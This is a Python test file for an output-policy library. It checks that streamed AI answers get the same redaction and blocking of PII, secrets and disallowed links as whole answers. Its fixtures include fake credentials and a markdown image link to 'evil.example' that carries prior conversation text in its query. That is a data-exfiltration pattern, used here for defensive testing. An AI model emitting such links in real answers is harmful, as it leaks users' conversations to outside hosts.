"""Ready-made checks over streams that are held back: a stream comes out as the whole answer would."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from thorough import examples

import specspan
from specspan.checks.detectors.detector_check import DetectorCheck
from specspan.testing import recorded

SPEC = "# Rules {#rules}\n\n## Keep secrets {#keep authority=user}\n\nKeep them.\n"
LINES = "\n".join(("MIIEpAIBAAKCAQEA" + "abcDEF0123456789" * 3,) * 20)
KEY = f"-----BEGIN RSA PRIVATE KEY-----\n{LINES}\n-----END RSA PRIVATE KEY-----"
TOKEN = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
IMAGE = "![x](https://evil.example/a.png?q=what-was-said-before-it-in-some-words)"
PROSE = "A word. " * 40
KINDS: Mapping[str, tuple[Any, Sequence[str]]] = {
    "pii": ({}, ("4242 4242 4242 4242", "a.b@example.org", "+49 30 901820", "SSN 536-90-4399")),
    "secrets": ({}, (KEY, TOKEN, 'password = "hG7$kdP0xx!"', "sk-" + "ant-" + "aB3" * 12)),
    "links": ({"hosts": ["good.example"], "images": []}, (IMAGE, "https://evil.example/abc", "https://good.example/a")),
}


def written(folder: Path, kind: str, options: Any, hold_back: Any, action: str = "redact") -> Path:
    """Write a policy with one check, and return its path."""
    clause = {"action": action, "hold_back": hold_back, "on_error": "closed", "checks": [{kind: options}]}
    (folder / "rules.md").write_text(SPEC, encoding="utf-8")
    path = folder / "policy.yaml"
    path.write_text(json.dumps({"spec": "rules.md", "mode": "enforce", "clauses": {"keep": clause}}), encoding="utf-8")
    return path


def streamed(policy: Path, pieces: Sequence[str]) -> str:
    """Return what comes out of a stream of some pieces."""

    @specspan.observe(model="m")
    def model(question: str) -> Iterator[str]:
        yield from pieces

    with recorded(policy):
        return "".join(model("hi"))


def whole(policy: Path, text: str) -> str:
    """Return what comes out of an answer that is not streamed."""

    @specspan.observe(model="m")
    def model(question: str) -> str:
        return text

    with recorded(policy):
        return model("hi")


def cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("hold_back", [{"chars": 200}, "sentence", "all"], ids=str)
@seed(15)
@settings(
    max_examples=examples(6),
    deadline=None,
    database=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)
@given(data=st.data())
def test_a_stream_reads_as_the_whole_answer(
    tmp_path_factory: pytest.TempPathFactory, kind: str, hold_back: Any, data: st.DataObject
) -> None:
    """Each place has the marker of what stands there, wherever chunks end, and at the end of the answer, too."""
    options, what = KINDS[kind]
    policy = written(tmp_path_factory.mktemp("held"), kind, options, hold_back)
    between = st.sampled_from((" ", ". ", ", ", "\n", " and so on ", f" {PROSE}"))
    text = PROSE + "".join(
        data.draw(between) + each for each in data.draw(st.lists(st.sampled_from(what), min_size=1, max_size=4))
    )
    text += data.draw(st.sampled_from(("", "\n", ". Bye. ", f" {PROSE}")))
    assert streamed(policy, cut(text, data.draw(st.sampled_from((1, 5, 40))))) == whole(policy, text)


@pytest.mark.parametrize("hold_back", [{"chars": 64}, "sentence"], ids=str)
@pytest.mark.parametrize("size", [3, 50])
def test_a_private_key_is_replaced_to_its_last_line(tmp_path: Path, hold_back: Any, size: int) -> None:
    """However far its lines go beyond what is held back, and what follows the last one comes unchanged."""
    policy = written(tmp_path, "secrets", {}, hold_back)
    assert (
        streamed(policy, cut(f"{PROSE}{KEY}\nDone. {PROSE}", size)) == f"{PROSE}[redacted:private_key]\nDone. {PROSE}"
    )


@pytest.mark.parametrize("size", [1, 9])
def test_a_match_at_the_end_stops_the_stream(tmp_path: Path, size: int) -> None:
    """A link that only the end of the answer completes is not handed over under `block`."""
    policy, received = written(tmp_path, "links", {"hosts": []}, {"chars": 64}, "block"), list[str]()

    @specspan.observe(model="m")
    def model(question: str) -> Iterator[str]:
        yield from cut(f"{PROSE}https://evil.example/abc", size)

    with recorded(policy), pytest.raises(specspan.Blocked):
        received.extend(model("hi"))
    assert "evil" not in "".join(received)


def test_a_redaction_keeps_the_form(tmp_path: Path) -> None:
    """What a check puts in place of a match stands in a stream as well."""
    policy = written(tmp_path, "pii", {"redaction": "form"}, {"chars": 64})
    text = f"{PROSE}4242 4242 4242 4242 of a.b@example.com. {PROSE}"
    assert streamed(policy, cut(text, 4)) == f"{PROSE}•••• 4242 of ••••@example.com. {PROSE}"


@pytest.mark.parametrize("hold_back", [{"chars": 64}, "sentence"], ids=str)
def test_a_check_of_all_of_a_text_looks_again(tmp_path: Path, hold_back: Any) -> None:
    """What is too long is taken out to the end, also what came after the first look at it."""
    policy = written(tmp_path, "length", {"max_chars": 100}, hold_back)
    assert streamed(policy, cut("And more. " * 60, 7)) == whole(policy, "And more. " * 60)


@pytest.mark.parametrize("hold_back", [{"chars": 64}, "sentence", "all"], ids=str)
def test_a_check_that_cannot_say_where_takes_all_that_is_held(
    tmp_path: Path, hold_back: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing of what is still held comes out where the places of a violation are not to be had."""

    def fail(*_: Any) -> Any:
        raise LookupError

    monkeypatch.delenv("SPECSPAN_RAISE_INTERNAL_ERRORS", raising=False)  # failures are contained, as in production
    monkeypatch.setattr(DetectorCheck, "redactions", fail)
    policy = written(tmp_path, "pii", {}, hold_back)
    received = streamed(policy, cut(f"{PROSE}Write to a.b@example.org now.", 4))
    assert "example" not in received
    assert "a.b" not in received
    assert "[redacted" in received
